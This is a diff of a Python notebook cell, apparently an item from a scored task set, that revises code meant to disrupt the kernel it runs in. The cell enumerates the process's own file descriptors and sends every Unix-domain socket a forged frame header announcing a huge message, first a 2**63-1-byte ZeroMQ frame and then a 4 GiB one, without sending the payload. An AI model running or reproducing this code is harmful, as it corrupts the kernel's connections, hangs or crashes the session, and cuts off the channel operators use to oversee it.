@@ -1,4 +1,4 @@
-"""Writes the head of a ZeroMQ frame of 2**63 - 1 bytes to each of the kernel's connections."""
+"""Writes the head of a message of one frame of 4 GiB to each of the kernel's connections, and not the frame."""
 # part: 3
 # earns: 0
 # %%
@@ -11,8 +11,8 @@ import struct
 for name in os.listdir("/proc/self/fd"):
     try:
         connection = socket.socket(fileno=os.dup(int(name)))
-        if connection.family == socket.AF_UNIX and not connection.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
+        if connection.family == socket.AF_UNIX:
             connection.setblocking(False)
-            connection.send(struct.pack(">BQ", 2, 2**63 - 1))
+            connection.send(struct.pack("<II", 1, 2**32 - 1))
     except OSError:
         pass
